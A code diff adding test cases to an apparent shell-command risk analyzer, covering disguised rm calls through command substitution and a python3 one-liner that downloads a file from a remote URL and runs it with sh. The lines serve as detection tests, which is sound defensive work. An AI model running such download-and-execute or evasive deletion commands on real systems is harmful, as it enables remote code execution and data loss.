@@ -91,6 +91,17 @@ TEST_CASE("builtins that run text") {
       {"rm.exe f", "fs.delete{f}"},
       {"$SHELL -c 'rm f'", "fs.delete{f}"},
       {"$(which rm) f", "fs.delete{f}"},
+      {"r=$(which xx || which rm); $r f", "fs.delete{f}"},
+      {"r=$(command -v rm || command -v xx); $r f", "fs.delete{f}"},
+      {"r=$(which ls || echo ls); $r f", ""},
+      {"$(which rm || which ls) f", "fs.delete{ls} fs.delete{f}"},
+      {"r=\"$(false || echo rm)\"; $r f", "fs.delete{f}"},
+      {"python3 -c 'import requests,os; "
+       "open(\"x.py\",\"wb\").write(requests.get(\"https://e.org/x\").content); "
+       "os.system(\"sh x.py\")'",
+       "exec.file{x.py} fs.overwrite{x.py} exec.downloaded"},
+      {"python3 -c 'import requests,os; print(requests.get(\"https://e.org/x\").text); os.system(\"ls x\")'",
+       ""},
       {"\"$(command -v rm)\" f", "fs.delete{f}"},
       {"/bin/r[m] f", "fs.delete{f}"},
       {"./*.sh f", "exec.file{./*.sh}"},
